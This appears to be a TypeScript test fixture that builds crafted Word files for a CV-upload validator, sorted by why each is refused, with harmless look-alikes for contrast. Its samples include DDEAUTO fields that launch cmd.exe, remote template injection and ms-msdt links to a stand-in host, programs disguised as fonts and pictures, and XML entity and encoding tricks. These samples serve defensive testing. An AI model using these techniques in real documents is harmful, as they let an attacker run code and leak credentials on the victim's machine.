import type { CvRefusal } from '#api/cv/cv-refusal.ts';
import { wordParts, type ZipEntry, zip } from './zip-files.ts';

/** Files by the reason for which they are refused. */
export type RefusedFiles = Readonly<Partial<Record<CvRefusal, Readonly<Record<string, Buffer>>>>>;

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const program = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(300, 'program')]);

const relations = (inner: string) =>
  Buffer.from(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`,
  );
const relation = (type: string, target: string, more = '') =>
  relations(`<Relationship Id="r" Type="${type}" Target="${target}" ${more}/>`);
const external = 'TargetMode="External"';

/** A Word document whose text has this relationship. */
export function related(type: string, target: string, more = external): Buffer {
  return withParts({ name: 'word/_rels/document.xml.rels', bytes: relation(type, target, more) });
}

/** A Word document with additional or replaced parts. */
export function withParts(...parts: ZipEntry[]): Buffer {
  const kept = wordParts.filter(({ name }) => !parts.some((part) => part.name === name));
  return zip([...kept, ...parts]);
}

const types = (content: string) =>
  Buffer.from(
    `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${content}</Types>`,
  );
const textType =
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>';
/** A Word document whose only paragraph is this markup. */
export function withText(inner: string, head = ''): Buffer {
  const xmlns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const bytes = Buffer.from(
    `${head}<w:document ${xmlns}><w:body><w:p>${inner}</w:p></w:body></w:document>`,
  );
  return withParts({ name: 'word/document.xml', bytes });
}
const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;

/** Word documents that are refused, by the reason. */
export const refusedDocxs: RefusedFiles = {
  macroFile: {
    'macros by their relation': related(
      'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
      'media/image1.png',
      '',
    ),
    'macros by their type': withParts({
      name: '[Content_Types].xml',
      bytes: types(
        `${textType}<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>`,
      ),
    }),
    'a text whose type has macros': withParts({
      name: '[Content_Types].xml',
      bytes: types(
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      ),
    }),
  },
  embeddedFile: {
    'an embedded object': withParts({
      name: 'word/embeddings/oleObject1.bin',
      bytes: Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    }),
    'an embedded workbook': withParts({ name: 'word/embeddings/a.xlsx', bytes: zip(wordParts) }),
    'an embedded object by its relation alone': related(
      `${office}/oleObject`,
      'media/image1.png',
      '',
    ),
    'macros under another name': withParts({
      name: 'word/data.xml',
      bytes: Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    }),
    'a control': withParts({ name: 'word/activeX/activeX1.bin', bytes: Buffer.from('x') }),
    'a program': withParts({ name: 'word/media/run.exe', bytes: program }),
    'a program called a picture': withParts({ name: 'word/media/image1.png', bytes: program }),
    'a program called a font': withParts({ name: 'word/fonts/font1.odttf', bytes: program }),
    'a program called a plain font': withParts({ name: 'word/fonts/a-bold.ttf', bytes: program }),
    'a text called a plain font': withParts({ name: 'word/fonts/a.ttf', bytes: Buffer.from('x') }),
    'a program called a printer': withParts({ name: 'word/printerSettings1.bin', bytes: program }),
    'an archive': withParts({ name: 'word/media/image1.jpg', bytes: zip(wordParts) }),
    'a script': withParts({ name: 'word/run.vbs', bytes: Buffer.from('MsgBox 1') }),
    'another document as a chunk': withParts({
      name: 'word/a.rtf',
      bytes: Buffer.from('{\\rtf1}'),
    }),
  },
  loadingFile: {
    'a template from elsewhere': related(
      `${office}/attachedTemplate`,
      'https://stranger.example/a.dotm',
    ),
    'a template on a share': related(
      `${office}/attachedTemplate`,
      'file://stranger.example/share/a.dotm',
    ),
    'an object from elsewhere': related(`${office}/oleObject`, 'https://stranger.example/a.html!'),
    'a picture from elsewhere': related(`${office}/image`, 'https://stranger.example/seen.png'),
    'a target whose place is written in references': related(
      `${office}/attachedTemplate`,
      'https://stranger.example/a',
      'TargetMode="Ext&#101;rnal"',
    ),
    'relations of its settings': withParts({
      name: 'word/_rels/settings.xml.rels',
      bytes: relation(`${office}/attachedTemplate`, 'https://stranger.example/a', external),
    }),
    'a link to a program': related(`${office}/hyperlink`, 'ms-msdt:/id PCWDiagnostic'),
    'a link to a share': related(`${office}/hyperlink`, '\\\\stranger.example\\share'),
    'a field that fetches': withText(
      instruction('INCLUDEPICTURE "https://stranger.example/a.png"'),
    ),
  },
  startingFile: {
    'a field that starts a program': withText(instruction('DDEAUTO c:\\\\cmd.exe "/k calc"')),
    'a field over many runs': withText(['DD', 'EAU', 'TO c:\\\\cmd.exe'].map(instruction).join('')),
    'a simple field': withText('<w:fldSimple w:instr="dde c:\\\\cmd.exe a"/>'),
  },
  unreadableFile: {
    'a template whose type another namespace denies': related(
      `${office}/attachedTemplate`,
      'https://stranger.example/a.dotm',
      `${external} xmlns:x="urn:x" x:Type="${office}/hyperlink"`,
    ),
    'an image from elsewhere that another namespace calls internal': related(
      `${office}/image`,
      'https://stranger.example/a.png',
      `${external} xmlns:x="urn:x" x:TargetMode="Internal"`,
    ),
    'a declared entity': withText('<w:r/>', '<!DOCTYPE a [<!ENTITY b "c">]>'),
    'markup in another encoding': withText('<w:r/>', '<?xml version="1.0" encoding="utf-7"?>'),
    'broken markup': withText('<w:r>'),
    'a part that is longer than it says': withParts({
      name: 'word/a.xml',
      bytes: Buffer.from(`<a>${'b'.repeat(500)}</a>`),
      unpacked: 20,
      localUnpacked: 20,
    }),
    'more markup than a person writes': withParts({
      name: 'word/a.xml',
      bytes: Buffer.from(
        `<a>${Array.from({ length: 900_000 }, (_, n) => `${n} `).join('')}${'çğş'.repeat(600_000)}</a>`,
      ),
    }),
  },
};

/** Harmless Word documents whose parts resemble active content. */
export const quietDocxs: Readonly<Record<string, Buffer>> = {
  'links to a page, an address and a place in it': withParts({
    name: 'word/_rels/document.xml.rels',
    bytes: relations(
      ['https://ada.example', 'mailto:ada@ada.example', 'tel:+905321234567', '#top', 'page.html']
        .map(
          (target, n) =>
            `<Relationship Id="r${n}" Type="${office}/hyperlink" Target="${target}" ${external}/>`,
        )
        .join(''),
    ),
  }),
  'fields, a directory, an empty part and a picture': withParts(
    {
      name: 'word/header1.xml',
      bytes: Buffer.from(
        `<w:hdr xmlns:w="w">${instruction('PAGE')}${instruction('HYPERLINK "https://ada.example/dde"')}</w:hdr>`,
      ),
    },
    { name: 'word/media/', bytes: Buffer.alloc(0), stored: true },
    { name: 'word/empty.xml', bytes: Buffer.alloc(0) },
    { name: 'word/media/image1.png', bytes: Buffer.from('\x89PNG\r\n\x1a\n', 'latin1') },
    { name: 'word/fonts/font1.odttf', bytes: Buffer.from('any bytes') },
  ),
  'typefaces as Google Docs embeds them': withParts(
    { name: 'word/fonts/Arimo-regular.ttf', bytes: Buffer.from('\0\x01\0\0\0\x11', 'latin1') },
    { name: 'word/fonts/Inter-bold.ttf', bytes: Buffer.from('OTTO\0\x0b', 'latin1') },
  ),
  'parts in UTF-16': withParts({
    name: 'customXml/item1.xml',
    bytes: Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><a>ş</a>', 'utf16le'),
  }),
};
